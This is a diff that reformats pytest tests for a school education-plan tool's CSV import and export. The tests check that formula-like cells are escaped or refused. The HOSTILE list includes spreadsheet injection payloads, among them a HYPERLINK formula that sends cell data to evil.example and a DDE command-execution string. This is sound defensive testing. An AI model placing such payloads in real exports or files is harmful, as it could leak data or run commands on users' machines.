@@ -18,8 +18,16 @@ from pep_model.terms import default_calendar
 from pep_model.workflow import PepStatus
 
 ROOT = Path(__file__).resolve().parents[2]
-HOSTILE = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
-           '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"]
+HOSTILE = [
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -29,8 +37,22 @@ def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(value: st
     assert cell == "'" + value
 
 
-@pytest.mark.parametrize("value", ["Oakfield Academy", "O'Neill", "", "100001", "-12.50",
-                                   "+3", "0.05", "a=b", "Year 7 - Oak", 42, -7])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Oakfield Academy",
+        "O'Neill",
+        "",
+        "100001",
+        "-12.50",
+        "+3",
+        "0.05",
+        "a=b",
+        "Year 7 - Oak",
+        42,
+        -7,
+    ],
+)
 def test_ordinary_text_and_figures_are_written_as_they_are(value: object) -> None:
     assert csv_cell(value) == value
 
@@ -38,10 +60,18 @@ def test_ordinary_text_and_figures_are_written_as_they_are(value: object) -> Non
 def test_the_overview_escapes_every_text_cell() -> None:
     # identifiers are checked on import, but the export does not rely on it
     term = default_calendar().get("2026-autumn")
-    rows = [OverviewRow("=1+2", "2026-autumn", "@SUM(A1)", 7, PepStatus.AWAITING_RETURN,
-                        meeting_held_on=date(2026, 11, 2), return_due=date(2026, 11, 7)),
-            OverviewRow("C02", "2026-autumn", "100001", 7, PepStatus.FINALISED,
-                        qa_overall="=evil()")]
+    rows = [
+        OverviewRow(
+            "=1+2",
+            "2026-autumn",
+            "@SUM(A1)",
+            7,
+            PepStatus.AWAITING_RETURN,
+            meeting_held_on=date(2026, 11, 2),
+            return_due=date(2026, 11, 7),
+        ),
+        OverviewRow("C02", "2026-autumn", "100001", 7, PepStatus.FINALISED, qa_overall="=evil()"),
+    ]
     text = overview_csv(build_overview(rows, date(2026, 11, 16), term))
     cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
     assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'=evil()" in cells
@@ -60,12 +90,32 @@ def test_every_csv_writer_goes_through_the_one_escape() -> None:
 
 # ---- identifiers are refused on import ---------------------------------------------
 
-def _roster(urn: str = "100001", lcs_id: str = "LCS300001",
-            dt_email: str = "dt@school.example") -> str:
-    line = [lcs_id, "Ada", "Fenwick", "2015-05-01", "Year 7", urn, "=HYPERLINK(1)",
-            "Harriet Pemberton", dt_email, "Rachel Donnelly",
-            "rachel.donnelly@northvale.example", "", "", "foster", "", "", "", "none", "no",
-            "no"]
+
+def _roster(
+    urn: str = "100001", lcs_id: str = "LCS300001", dt_email: str = "dt@school.example"
+) -> str:
+    line = [
+        lcs_id,
+        "Ada",
+        "Fenwick",
+        "2015-05-01",
+        "Year 7",
+        urn,
+        "=HYPERLINK(1)",
+        "Harriet Pemberton",
+        dt_email,
+        "Rachel Donnelly",
+        "rachel.donnelly@northvale.example",
+        "",
+        "",
+        "foster",
+        "",
+        "",
+        "",
+        "none",
+        "no",
+        "no",
+    ]
     return ",".join(ROSTER_COLUMNS) + "\n" + ",".join(line) + "\n"
 
 
@@ -75,7 +125,8 @@ def test_a_school_urn_that_is_not_six_digits_is_refused(urn: str) -> None:
     assert parsed.rows == []
     assert [str(p) for p in parsed.problems] == [
         f"row 2 (LCS300001): school_urn: '{urn}' is not a school URN (6 digits, as in "
-        "Get Information about Schools)"]
+        "Get Information about Schools)"
+    ]
 
 
 def test_a_six_digit_urn_and_a_school_name_of_any_text_are_imported() -> None:
@@ -90,26 +141,31 @@ def test_an_lcs_id_that_could_be_a_formula_is_refused(lcs_id: str) -> None:
     parsed = parse_roster(_roster(lcs_id=lcs_id))
     assert parsed.rows == []
     assert [p.column for p in parsed.problems] == ["lcs_id"]
-    attendance = parse_attendance("lcs_id,possible_sessions,attended_sessions,"
-                                  f"unauthorised_sessions\n{lcs_id},10,10,0\n")
+    attendance = parse_attendance(
+        f"lcs_id,possible_sessions,attended_sessions,unauthorised_sessions\n{lcs_id},10,10,0\n"
+    )
     assert attendance.rows == []
     assert [p.message for p in attendance.problems] == [
-        f"'{lcs_id}' is not an LCS id (letters, digits, - and _)"]
+        f"'{lcs_id}' is not an LCS id (letters, digits, - and _)"
+    ]
 
 
-@pytest.mark.parametrize("email", ["=1+2@school.example", "-x@school.example",
-                                   "+x@school.example"])
+@pytest.mark.parametrize("email", ["=1+2@school.example", "-x@school.example", "+x@school.example"])
 def test_an_email_starting_like_a_formula_is_refused(email: str) -> None:
     parsed = parse_roster(_roster(dt_email=email))
     assert [str(p) for p in parsed.problems] == [
-        f"row 2 (LCS300001): designated_teacher_email: '{email}' is not an email address"]
+        f"row 2 (LCS300001): designated_teacher_email: '{email}' is not an email address"
+    ]
 
 
 def test_a_staff_scope_is_authority_or_a_urn() -> None:
-    parsed = parse_staff("name,email,role,scope\n"
-                         "A,a@northvale.example,pep_lead,authority\n"
-                         "B,b@school.example,pep_lead,100001\n"
-                         "C,c@school.example,pep_lead,=1+2\n")
+    parsed = parse_staff(
+        "name,email,role,scope\n"
+        "A,a@northvale.example,pep_lead,authority\n"
+        "B,b@school.example,pep_lead,100001\n"
+        "C,c@school.example,pep_lead,=1+2\n"
+    )
     assert [r.person.name for r in parsed.rows] == ["A", "B"]
     assert [str(p) for p in parsed.problems] == [
-        "row 4: scope: '=1+2' should be authority or a school URN (6 digits)"]
+        "row 4: scope: '=1+2' should be authority or a school URN (6 digits)"
+    ]
